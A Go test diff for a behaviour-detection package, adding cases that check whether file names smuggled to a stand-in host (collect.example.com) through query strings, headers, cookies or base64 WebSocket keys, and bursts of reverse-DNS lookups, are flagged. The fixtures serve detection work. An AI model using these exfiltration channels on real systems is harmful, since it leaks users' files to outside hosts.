@@ -1,6 +1,7 @@
 package behaviour
 
 import (
+	"bytes"
 	"fmt"
 	"strings"
 	"testing"
@@ -43,6 +44,48 @@ func TestDataToAHostThatTheBaseNeverNames(t *testing.T) {
 				}
 			}
 		})
+	}
+}
+
+func TestAQuestionThatSaysWhatStandsInNoFile(t *testing.T) {
+	const head = "GET / HTTP/1.1|Host: collect.example.com|"
+	for events, told := range map[string]bool{
+		"request GET http://collect.example.com/fixed/path?fixed-name=fixed-value":                                   false,
+		"request GET http://collect.example.com/c?v=README.md-LICENSE":                                               true,
+		"request HEAD http://collect.example.com/%23%20tool%0Acounts":                                                true,
+		"request GET http://collect.example.com/fixed/path?page=2&since=2026-11-22":                                  false,
+		"request GET http://api.example.com/c?v=README.md-LICENSE":                                                   false,
+		"request GET http://collect.example.com/ <<<" + head + "User-Agent: curl/8.1.2":                              false,
+		"request GET http://collect.example.com/ <<<" + head + "User-Agent: README-LICENSE":                          true,
+		"request GET http://collect.example.com/ <<<" + head + "User-Agent: curl/8.1.2 README-LICENSE":               true,
+		"request GET http://collect.example.com/ <<<" + head + "Cookie: s=README-LICENSE":                            true,
+		"request GET http://collect.example.com/ <<<" + head + "X-Trace: README-LICENSE":                             true,
+		"request GET http://collect.example.com/ <<<" + head + "Accept: text/whatever":                               false,
+		"request GET http://collect.example.com/ <<<" + head + "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==":         false,
+		"request GET http://collect.example.com/ <<<" + head + "Sec-WebSocket-Key: UkVBRE1FLm1kLUxJQ0VOU0UtY29uZg==": true,
+	} {
+		r := runOf(t, Script, events)
+		for i, e := range r.Seen.Events {
+			r.Seen.Events[i].Data = bytes.ReplaceAll(e.Data, []byte("|"), []byte("\r\n"))
+		}
+		r.NewHost = func(host string) bool { return host != "api.example.com" }
+		r.Literal = func(text []byte) bool { return strings.HasPrefix(string(text), "fixed") }
+		if got := rulesOf(Findings(r)); strings.Contains(got, ruleNewHost.ID) != told {
+			t.Errorf("%q: %s", events, got)
+		}
+	}
+}
+
+func TestNamesOfAddressesMayBeLetters(t *testing.T) {
+	for events, many := range map[string]bool{
+		"resolve PTR 1.2.0.192.in-addr.arpa\nresolve PTR 2.2.0.192.in-addr.arpa\nresolve PTR 3.2.0.192.in-addr.arpa\nresolve PTR 4.2.0.192.in-addr.arpa": true,
+		"resolve PTR 1.2.0.192.in-addr.arpa\nresolve PTR 2.2.0.192.in-addr.arpa":                                                                         false,
+		"resolve PTR 1.0.0.10.in-addr.arpa\nresolve PTR 2.0.0.10.in-addr.arpa\nresolve PTR 3.0.0.10.in-addr.arpa\nresolve PTR 4.0.0.10.in-addr.arpa":     false,
+	} {
+		r := runOf(t, Script, events)
+		if got := rulesOf(Findings(r)); strings.Contains(got, ruleManyNames.ID) != many {
+			t.Errorf("%q: %s", events, got)
+		}
 	}
 }
 
